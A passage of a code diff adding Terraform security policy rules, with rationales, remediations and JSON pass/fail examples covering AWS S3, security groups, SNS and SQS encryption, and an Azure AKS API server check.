+        let opaque = terraform.resource("aws_s3_bucket_versioning")[change.after_unknown.bucket == true and file(it) == file(b) and none(x in [config.bucket.references[0], config.bucket.references[1], config.bucket.references[2]], starts_with(x, "aws_s3_bucket."))]
+        # The legacy inline block is computed (unknown) when the configuration does not write it.
+        let inline_unset = exists(b.provider.key) and not exists(b.config.versioning) and is_unknown(b.after.versioning)
+        let inline_on = not inline_unset and any(v in b.after.versioning, v.enabled == true)
+        let status = first(versionings).after.versioning_configuration[0].status
+        require count(versionings) == 0 or inline_on or all(v in versionings, v.after.versioning_configuration[0].status == "Enabled")
+          else "'${b.address}' has versioning status '${status}' (${first(versionings).address})" at status
+        require count(versionings) > 0 or inline_on or any(p in opaque, p.after.bucket == b.after.bucket)
+          else "'${b.address}' does not enable versioning" at b.address
+
+        example pass "versioning resource" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"versioning_configuration": [{"mfa_delete": null, "status": "Enabled"}]}, "after_unknown": {"bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
+        """
+        example pass "legacy inline block" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"bucket": "acme-data", "versioning": [{"enabled": true, "mfa_delete": false}]}, "after_unknown": {"id": true}}}]}
+        """
+        example fail "suspended" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"versioning_configuration": [{"mfa_delete": null, "status": ↓"Suspended"}]}, "after_unknown": {"bucket": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
+        """ expect "'aws_s3_bucket.data' has versioning status 'Suspended' (aws_s3_bucket_versioning.data)"
+        example fail "no versioning at all" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": ↓"aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}}]}}}
+        """ expect "'aws_s3_bucket.data' does not enable versioning"
+        example indeterminate "status known only after apply" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after": {"bucket": "acme-data"}, "after_unknown": {"id": true, "versioning": true}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"versioning_configuration": [{"mfa_delete": null}]}, "after_unknown": {"bucket": true, "versioning_configuration": [{"status": true}]}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_s3_bucket.data", "mode": "managed", "type": "aws_s3_bucket", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"constant_value": "acme-data"}}},
+            {"address": "aws_s3_bucket_versioning.data", "mode": "managed", "type": "aws_s3_bucket_versioning", "name": "data", "provider_config_key": "aws",
+             "expressions": {"bucket": {"references": ["aws_s3_bucket.data.id", "aws_s3_bucket.data"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/s3_public_access_block_disabled.plumb",
+      text: #"""
+      rule s3_public_access_block_disabled {
+        title "S3 public access blocks turn on all four protections"
+        severity high
+        category security
+        tags [terraform, aws, s3, public-access]
+        rationale """
+          A public access block only protects what its flags cover: `block_public_acls` and
+          `ignore_public_acls` stop public ACLs from being set or honoured, `block_public_policy` and
+          `restrict_public_buckets` stop a bucket policy from granting access to everyone. One flag left
+          false (the provider's default) is the gap through which a later `public-read` ACL or
+          `"Principal": "*"` policy publishes the data. The account-level block
+          (`aws_s3_account_public_access_block`) applies the same flags to every bucket of the account.
+        """
+        remediation """
+          Set `block_public_acls`, `block_public_policy`, `ignore_public_acls` and
+          `restrict_public_buckets` to true. A bucket that must serve public content should do it
+          through CloudFront with an origin access control, not by relaxing the block.
+        """
+        param flags: list<string> = ["block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets"]
+
+        for r in terraform.resource("aws_s3_bucket_public_access_block", "aws_s3_account_public_access_block")
+        when not is_null(r.after)
+        let off = filter(f in param.flags, r.after[f] != true)
+        require count(off) == 0
+          else "'${r.address}' leaves ${join(off, ", ")} off" at r.after[first(off)]
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"block_public_acls": true, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
+               "after_unknown": {"bucket": true, "id": true}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"block_public_acls": true, "block_public_policy": ↓false, "ignore_public_acls": true, "restrict_public_buckets": false},
+               "after_unknown": {"bucket": true, "id": true}}},
+            {"address": "aws_s3_account_public_access_block.this", "mode": "managed", "type": "aws_s3_account_public_access_block", "name": "this",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"account_id": null, "block_public_acls": ↓false, "block_public_policy": true, "ignore_public_acls": true, "restrict_public_buckets": true},
+               "after_unknown": {"id": true}}}]}
+        """ expect "'aws_s3_bucket_public_access_block.b' leaves block_public_policy, restrict_public_buckets off"
+            expect "'aws_s3_account_public_access_block.this' leaves block_public_acls off"
+        example indeterminate "flags from values known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_s3_bucket_public_access_block.b", "mode": "managed", "type": "aws_s3_bucket_public_access_block", "name": "b",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"block_public_acls": true, "ignore_public_acls": true, "restrict_public_buckets": true},
+               "after_unknown": {"block_public_policy": true, "bucket": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/security_group_admin_ports_open.plumb",
       text: #"""
       rule security_group_admin_ports_open {
         title "Security groups do not open admin ports to the internet"
@@ -511,17 +4662,27 @@ extension BuiltinPolicies {
         tags [terraform, aws, network]
         rationale """
           SSH (22) and RDP (3389) open to 0.0.0.0/0 or ::/0 are scanned within minutes of creation and
-          brute-forced from then on.
+          brute-forced from then on. A rule for all protocols (`-1`) opens them too.
         """
         remediation "Restrict the rule's CIDR blocks to your VPN or bastion ranges, or use SSM Session Manager instead of SSH."
         param admin_ports: list<int> = [22, 3389]
+        param non_port_protocols: list<string> = ["icmp", "1", "icmpv6", "58"]
 
-        for sg in terraform.resource("aws_security_group")
-        let open = filter(r in sg.after.ingress,
-          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks)
-          and any(p in param.admin_ports, r.from_port <= p and p <= r.to_port))
+        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule")
+        when not is_null(sg.after)
+        # Inline rules are computed (unknown) when the configuration writes none: the group then has only
+        # the rules of separate aws_security_group_rule / aws_vpc_security_group_ingress_rule resources.
+        let inline_unset = exists(sg.provider.key) and not exists(sg.config.ingress) and is_unknown(sg.after.ingress)
+        let rules = flatten([
+          flatten(filter(x in [sg.after.ingress], not inline_unset and exists(x))),
+          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "ingress"),
+          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_ingress_rule")])
+        let open = filter(r in rules,
+          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
+          and any(p in param.admin_ports, r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1"
+            or (default(r.protocol, r.ip_protocol) not in param.non_port_protocols and r.from_port <= p and p <= r.to_port)))
         require count(open) == 0
-          else "'${sg.address}' opens port ${join(map(p in filter(p in param.admin_ports, any(r in open, r.from_port <= p and p <= r.to_port)), to_string(p)), ", ")} to the internet" at first(open)
+          else "'${sg.address}' opens port ${join(map(p in filter(p in param.admin_ports, any(r in open, r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= p and p <= r.to_port))), to_string(p)), ", ")} to the internet" at first(open)
 
         example pass """
           {"format_version": "1.2", "resource_changes": [
@@ -530,7 +4691,12 @@ extension BuiltinPolicies {
              "change": {"actions": ["create"], "before": null, "after_unknown": {},
                "after": {"ingress": [
                  {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
-                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 22, "to_port": 22, "protocol": "tcp"}]}}}]}
+                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 8, "to_port": 0, "protocol": "icmp"},
+                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 22, "to_port": 22, "protocol": "tcp"}]}}},
+            {"address": "aws_security_group_rule.vpn", "mode": "managed", "type": "aws_security_group_rule", "name": "vpn",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
+               "after": {"type": "ingress", "cidr_blocks": ["203.0.113.0/24"], "ipv6_cidr_blocks": null, "from_port": 22, "to_port": 22, "protocol": "tcp"}}}]}
         """
         example fail """
           {"format_version": "1.2", "resource_changes": [
@@ -540,6 +4706,18 @@ extension BuiltinPolicies {
                "after": {"ingress": [
                  ↓{"cidr_blocks": [], "ipv6_cidr_blocks": ["::/0"], "from_port": 0, "to_port": 65535, "protocol": "tcp"}]}}}]}
         """ expect "'aws_security_group.bastion' opens port 22, 3389 to the internet"
+        example fail "separate rule resources" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group_rule.all", "mode": "managed", "type": "aws_security_group_rule", "name": "all",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
+               "after": ↓{"type": "ingress", "cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": null, "from_port": 0, "to_port": 0, "protocol": "-1"}}},
+            {"address": "aws_vpc_security_group_ingress_rule.rdp", "mode": "managed", "type": "aws_vpc_security_group_ingress_rule", "name": "rdp",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
+               "after": ↓{"cidr_ipv4": "0.0.0.0/0", "cidr_ipv6": null, "from_port": 3389, "to_port": 3389, "ip_protocol": "tcp"}}}]}
+        """ expect "'aws_security_group_rule.all' opens port 22, 3389 to the internet"
+            expect "'aws_vpc_security_group_ingress_rule.rdp' opens port 3389 to the internet"
         example indeterminate "CIDR known only after apply" """
           {"format_version": "1.2", "resource_changes": [
             {"address": "aws_security_group.x", "mode": "managed", "type": "aws_security_group", "name": "x",
@@ -547,6 +4725,2699 @@ extension BuiltinPolicies {
              "change": {"actions": ["create"], "before": null,
                "after": {"ingress": [{"cidr_blocks": [null], "ipv6_cidr_blocks": [], "from_port": 22, "to_port": 22}]},
                "after_unknown": {"ingress": [{"cidr_blocks": [true], "ipv6_cidr_blocks": []}]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/security_group_all_ports_open.plumb",
+      text: #"""
+      rule security_group_all_ports_open {
+        title "Security groups do not open every port to the internet"
+        severity critical
+        category security
+        tags [terraform, aws, network]
+        rationale """
+          An ingress rule for all protocols (`-1`) or the whole port range from 0.0.0.0/0 or ::/0 exposes
+          every service on the instances behind the group (databases, caches, admin consoles, debug
+          ports) to the internet, including ones started later that nobody meant to publish.
+        """
+        remediation """
+          Open only the ports the service answers on (for example 443), and restrict the CIDR blocks of
+          anything else to internal ranges or to other security groups.
+        """
+
+        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_ingress_rule")
+        when not is_null(sg.after)
+        let inline_unset = exists(sg.provider.key) and not exists(sg.config.ingress) and is_unknown(sg.after.ingress)
+        let rules = flatten([
+          flatten(filter(x in [sg.after.ingress], not inline_unset and exists(x))),
+          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "ingress"),
+          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_ingress_rule")])
+        let open = filter(r in rules,
+          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
+          and (r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= 1 and r.to_port >= 65535)))
+        require count(open) == 0
+          else "'${sg.address}' opens all ports to the internet (protocol '${default(first(open).protocol, first(open).ip_protocol)}', ports ${default(first(open).from_port, 0)}-${default(first(open).to_port, 65535)})" at first(open)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group.web", "mode": "managed", "type": "aws_security_group", "name": "web",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"ingress": [
+                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
+                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group.bad", "mode": "managed", "type": "aws_security_group", "name": "bad",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"egress": true},
+               "after": {"ingress": [
+                 ↓{"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}},
+            {"address": "aws_vpc_security_group_ingress_rule.any", "mode": "managed", "type": "aws_vpc_security_group_ingress_rule", "name": "any",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
+               "after": ↓{"cidr_ipv4": null, "cidr_ipv6": "::/0", "from_port": null, "to_port": null, "ip_protocol": "-1"}}}]}
+        """ expect "'aws_security_group.bad' opens all ports to the internet (protocol '-1', ports 0-0)"
+            expect "'aws_vpc_security_group_ingress_rule.any' opens all ports"
+        example indeterminate "CIDR known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group_rule.x", "mode": "managed", "type": "aws_security_group_rule", "name": "x",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"type": "ingress", "cidr_blocks": [null], "from_port": 0, "to_port": 65535, "protocol": "tcp"},
+               "after_unknown": {"cidr_blocks": [true]}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/security_group_egress_open.plumb",
+      text: #"""
+      rule security_group_egress_open {
+        title "Security groups do not allow all egress to the internet"
+        severity low
+        category security
+        tags [terraform, aws, network]
+        rationale """
+          Egress to 0.0.0.0/0 or ::/0 on every port is what malware and an attacker with a foothold need
+          to download tools, reach command-and-control servers and exfiltrate data. Most workloads only
+          talk to a few endpoints (HTTPS to AWS APIs through VPC endpoints, a database, a proxy).
+        """
+        remediation """
+          Limit egress rules to the ports and destinations the workload uses (for example 443 to a
+          proxy or a prefix list of VPC endpoints, the database port to the database's security group).
+        """
+
+        for sg in terraform.resource("aws_security_group", "aws_default_security_group", "aws_security_group_rule", "aws_vpc_security_group_egress_rule")
+        when not is_null(sg.after)
+        # Terraform removes AWS's default allow-all egress rule from the groups it creates: egress that
+        # the configuration does not write is empty.
+        let inline_unset = exists(sg.provider.key) and not exists(sg.config.egress) and is_unknown(sg.after.egress)
+        let rules = flatten([
+          flatten(filter(x in [sg.after.egress], not inline_unset and exists(x))),
+          filter(x in [sg.after], type(sg) == "aws_security_group_rule" and x.type == "egress"),
+          filter(x in [sg.after], type(sg) == "aws_vpc_security_group_egress_rule")])
+        let open = filter(r in rules,
+          ("0.0.0.0/0" in r.cidr_blocks or "::/0" in r.ipv6_cidr_blocks or r.cidr_ipv4 == "0.0.0.0/0" or r.cidr_ipv6 == "::/0")
+          and (r.protocol == "-1" or r.protocol == "all" or r.ip_protocol == "-1" or (r.from_port <= 1 and r.to_port >= 65535)))
+        require count(open) == 0
+          else "'${sg.address}' allows all egress to the internet" at first(open)
+
+        example pass """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group.app", "mode": "managed", "type": "aws_security_group", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"ingress": [], "egress": [
+                 {"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 443, "to_port": 443, "protocol": "tcp"},
+                 {"cidr_blocks": ["10.0.0.0/8"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_security_group.app", "mode": "managed", "type": "aws_security_group", "name": "app",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"ingress": [], "egress": [
+                 ↓{"cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": [], "from_port": 0, "to_port": 0, "protocol": "-1"}]}}},
+            {"address": "aws_security_group_rule.egress", "mode": "managed", "type": "aws_security_group_rule", "name": "egress",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"security_group_id": true},
+               "after": ↓{"type": "egress", "cidr_blocks": ["0.0.0.0/0"], "ipv6_cidr_blocks": null, "from_port": 0, "to_port": 65535, "protocol": "tcp"}}}]}
+        """ expect "'aws_security_group.app' allows all egress to the internet" expect "'aws_security_group_rule.egress' allows all egress"
+        example indeterminate "CIDR known only after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_vpc_security_group_egress_rule.x", "mode": "managed", "type": "aws_vpc_security_group_egress_rule", "name": "x",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null,
+               "after": {"cidr_ipv6": null, "ip_protocol": "-1"}, "after_unknown": {"cidr_ipv4": true}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/sns_topic_not_encrypted.plumb",
+      text: #"""
+      rule sns_topic_not_encrypted {
+        title "SNS topics encrypt messages with KMS"
+        severity medium
+        category security
+        tags [terraform, aws, sns, encryption, kms]
+        rationale """
+          SNS does not encrypt messages at rest unless the topic has a KMS key: notifications about
+          orders, alerts carrying hostnames and error payloads, and fan-out events with personal data are
+          stored in clear text until delivered.
+        """
+        remediation "Set `kms_master_key_id` to a customer managed KMS key (or `alias/aws/sns` for the AWS-managed key)."
+
+        for t in terraform.resource("aws_sns_topic")
+        when not is_null(t.after)
+        let key_ref = any(x in t.config.kms_master_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
+        # Computed when the configuration does not set it: the topic is then unencrypted.
+        let unset = exists(t.provider.key) and not exists(t.config.kms_master_key_id) and is_unknown(t.after.kms_master_key_id)
+        require key_ref or (not unset and not is_empty(t.after.kms_master_key_id))
+          else "'${t.address}' does not set kms_master_key_id, so its messages are not encrypted at rest" at t.address
+
+        example pass """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "alerts", "kms_master_key_id": "alias/aws/sns"}}},
+            {"address": "aws_sns_topic.orders", "mode": "managed", "type": "aws_sns_topic", "name": "orders",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true, "kms_master_key_id": true},
+               "after": {"name": "orders"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_sns_topic.orders", "mode": "managed", "type": "aws_sns_topic", "name": "orders", "provider_config_key": "aws",
+             "expressions": {"kms_master_key_id": {"references": ["aws_kms_key.orders.id", "aws_kms_key.orders"]}}}]}}}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": ↓"aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"arn": true},
+               "after": {"name": "alerts", "kms_master_key_id": null}}}]}
+        """ expect "'aws_sns_topic.alerts' does not set kms_master_key_id"
+        example indeterminate "key from a variable, known after apply" """
+          {"format_version": "1.2",
+           "resource_changes": [
+            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_master_key_id": true}, "after": {"name": "alerts"}}}],
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_sns_topic.alerts", "mode": "managed", "type": "aws_sns_topic", "name": "alerts", "provider_config_key": "aws",
+             "expressions": {"kms_master_key_id": {"references": ["var.kms_key_id"]}}}]}}}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/aws/sqs_queue_not_encrypted.plumb",
+      text: #"""
+      rule sqs_queue_not_encrypted {
+        title "SQS queues encrypt messages at rest"
+        severity medium
+        category security
+        tags [terraform, aws, sqs, encryption]
+        rationale """
+          `sqs_managed_sse_enabled = false` without a `kms_master_key_id` stores messages (often orders,
+          events with personal data, job payloads with credentials) unencrypted at rest. New queues are
+          encrypted with SQS-managed keys by default; this finding means the configuration turned it off.
+        """
+        remediation "Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` to a KMS key for SSE-KMS."
+
+        for q in terraform.resource("aws_sqs_queue")
+        when not is_null(q.after)
+        # A key from a KMS key or alias resource is set even when its ARN is known only after apply.
+        let key_ref = any(x in q.config.kms_master_key_id.references, starts_with(x, "aws_kms_key.") or starts_with(x, "aws_kms_alias."))
+        # Computed when the configuration does not set it: new queues get SSE-SQS by default.
+        let sse_unset = exists(q.provider.key) and not exists(q.config.sqs_managed_sse_enabled) and is_unknown(q.after.sqs_managed_sse_enabled)
+        require sse_unset or q.after.sqs_managed_sse_enabled != false or key_ref or not is_empty(q.after.kms_master_key_id)
+          else "'${q.address}' stores messages unencrypted (sqs_managed_sse_enabled = false, no kms_master_key_id)" at q.after.sqs_managed_sse_enabled
+          fix { set q.after.sqs_managed_sse_enabled = true }
+
+        example pass """
+          {"format_version": "1.2",
+           "configuration": {"root_module": {"resources": [
+            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs", "provider_config_key": "aws",
+             "expressions": {"name": {"constant_value": "jobs"}}}]}},
+           "resource_changes": [
+            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"sqs_managed_sse_enabled": true},
+               "after": {"name": "jobs", "kms_master_key_id": null}}},
+            {"address": "aws_sqs_queue.orders", "mode": "managed", "type": "aws_sqs_queue", "name": "orders",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"name": "orders", "sqs_managed_sse_enabled": false, "kms_master_key_id": "alias/orders"}}}]}
+        """
+        example fail """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {},
+               "after": {"name": "jobs", "sqs_managed_sse_enabled": ↓false, "kms_master_key_id": null}}}]}
+        """ expect "'aws_sqs_queue.jobs' stores messages unencrypted"
+        example indeterminate "key from a variable, known after apply" """
+          {"format_version": "1.2", "resource_changes": [
+            {"address": "aws_sqs_queue.jobs", "mode": "managed", "type": "aws_sqs_queue", "name": "jobs",
+             "provider_name": "registry.terraform.io/hashicorp/aws",
+             "change": {"actions": ["create"], "before": null, "after_unknown": {"kms_master_key_id": true},
+               "after": {"name": "jobs", "sqs_managed_sse_enabled": false}}}]}
+        """
+      }
+
+      """#),
+    PolicySource(
+      path: "rules/security/terraform/azure/azure_aks_api_server_unrestricted.plumb",
+      text: #"""
+      rule azure_aks_api_server_unrestricted {
+        title "AKS API servers are private or limited to authorized IP ranges"
+        severity high
+        category security
+        tags [terraform, azure, aks, kubernetes, network]
+        rationale """
+          A public AKS cluster without authorized IP ranges answers on its Kubernetes API from every
+          address on the internet. The API server is the cluster's control plane: leaked kubeconfigs,
+          tokens from a compromised pod or CI job, and any authentication or API-server vulnerability
+          can then be used from anywhere. Authorized IP ranges (or a private cluster) reduce that to the
+          networks you operate from.
+        """
+        remediation """
+          Add `api_server_access_profile { authorized_ip_ranges = ["<office/VPN/CI CIDRs>"] }` to the
+          `azurerm_kubernetes_cluster` (azurerm 2.x/3.x: `api_server_authorized_ip_ranges`), or set
+          `private_cluster_enabled = true` and reach the API through the VNet.
+        """
+        param open_ranges: list<string> = ["0.0.0.0/0", "0.0.0.0/1", "128.0.0.0/1", "*"]
+
+        for c in terraform.resource("azurerm_kubernetes_cluster")
+        when not is_null(c.after)
+        when c.after.private_cluster_enabled != true and c.after.public_network_access_enabled != false
+        # Both are computed when not written in the configuration; then they hold no ranges.
+        let profile = c.after.api_server_access_profile
+        let profile_unset = is_unknown(profile) and exists(c.config) and not exists(c.config.api_server_access_profile)
+        let legacy = c.after.api_server_authorized_ip_ranges
+        let legacy_unset = is_unknown(legacy) and exists(c.config) and not exists(c.config.api_server_authorized_ip_ranges)
+        require (not profile_unset and not is_empty(first(profile).authorized_ip_ranges)) or (not legacy_unset and not is_empty(legacy))
+          else "'${c.address}' exposes its Kubernetes API server to the whole internet: no authorized IP ranges and private_cluster_enabled is not true"
+          at c.after.private_cluster_enabled
+        require (profile_unset or none(x in first(profile).authorized_ip_ranges, trim(x) in param.open_ranges))
+            and (legacy_unset or none(x in legacy, trim(x) in param.open_ranges))
+          else "'${c.address}' authorizes the whole internet to reach its Kubernetes API server (authorized IP range ${first(filter(x in flatten([default(first(profile).authorized_ip_ranges, []), default(legacy, [])]), trim(x) in param.open_ranges))})"
+          at first(filter(x in flatten([default(first(profile).authorized_ip_ranges, []), default(legacy, [])]), known(x) and trim(x) in param.open_ranges))
+
+        example pass "authorized ranges" """
+          {"format_version": "1.2", "resource_changes": [
